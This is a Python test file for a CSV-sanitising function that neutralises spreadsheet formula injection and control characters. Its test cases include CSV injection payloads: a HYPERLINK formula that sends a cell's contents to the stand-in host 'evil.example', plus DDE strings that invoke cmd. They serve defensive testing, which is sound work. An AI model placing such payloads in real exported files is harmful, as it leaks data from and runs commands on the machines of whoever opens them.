"""qf.csvsafe: no text cell can start a spreadsheet formula or carry a control character; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qf_sentinel.qf.csvsafe import FORMULA_START, safe_cell, safe_record, safe_row
from qf_sentinel.qf.sim.labels import write_labels_file
from qf_sentinel.qf.sim.plan import Label


@pytest.mark.parametrize(("raw", "written"), [
    ('=HYPERLINK("http://evil.example/?leak="&A2,"x")', '\'=HYPERLINK("http://evil.example/?leak="&A2,"x")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "\ufffd=1+1"),  # the CR is replaced: the cell no longer starts with it
    ("\uff1d1+1", "'\uff1d1+1"),
    ("a\x1b[31mred\x07b\rc\x9bd", "a\ufffd[31mred\ufffdb\ufffdc\ufffdd"),
    ("two\nlines\tand a tab", "two\nlines\tand a tab"),
    ("plain name, with a comma", "plain name, with a comma"),
    ("-2.5", "'-2.5"),  # text that looks like a number is still text
    ("", ""),
])  # fmt: skip
def test_owasp_examples(raw: str, written: str) -> None:
    assert safe_cell(raw) == written


@pytest.mark.parametrize("number", [-2.5, 0, -7, 3.25, Decimal("-0.000001"), Decimal("12.500000"), True])
def test_numbers_are_left_alone(number: object) -> None:
    assert safe_cell(number) is number
    out = io.StringIO()
    csv.writer(out).writerow(safe_row(["x", number]))
    assert out.getvalue().split(",")[1].strip() == str(number), "written as the number, unquoted"


def test_none_stays_empty() -> None:
    assert safe_cell(None) is None
    assert safe_record({"a": None, "b": "=1"}) == {"a": None, "b": "'=1"}


@given(st.text())
def test_no_text_cell_is_live(text: str) -> None:
    """Whatever the text: it cannot start a formula, holds no control character but tab and line feed, and
    survives a round trip through the csv module unchanged; safe text is not touched."""
    cell = safe_cell(text)
    assert cell[:1] not in FORMULA_START
    assert not any((ord(c) < 32 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F for c in cell)
    out = io.StringIO()
    csv.writer(out).writerow([cell, "end"])
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [cell, "end"]
    if text == cell.removeprefix("'") and text[:1] not in FORMULA_START:
        assert cell == text
    assert safe_cell(cell) == cell, "idempotent"


def test_the_labels_file_is_written_safe(tmp_path: Path) -> None:
    """The simulator's ground-truth CSV goes through the same function."""
    path = tmp_path / "labels.csv"
    write_labels_file(path, [Label("0x" + "12" * 20, True, "=cmd|' /C calc'!A0", funding="+SUM(1)")], source="@evil")
    with path.open(newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1] == ["0x" + "12" * 20, "true", "'=cmd|' /C calc'!A0", "'+SUM(1)", "'@evil"]
